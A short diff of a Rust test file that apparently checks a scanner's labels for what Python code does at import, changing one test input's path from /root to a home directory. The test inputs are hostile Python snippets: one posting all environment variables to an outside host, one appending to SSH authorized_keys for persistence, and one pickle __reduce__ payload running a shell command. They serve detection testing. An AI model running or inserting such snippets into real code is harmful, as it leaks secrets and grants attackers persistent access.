@@ -52,7 +52,7 @@ fn what_runs_at_import() {
         "import requests, os\ndef f():\n    requests.post('http://x', json=dict(os.environ))\n",
         &["python/hands-over"],
     );
-    import("open('/root/.ssh/authorized_keys', 'a').write('x')\n", &["python/persists"]);
+    import("open('~/.ssh/authorized_keys', 'a').write('x')\n", &["python/persists"]);
     import(
         "import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\n",
         &["python/makes-payload"],
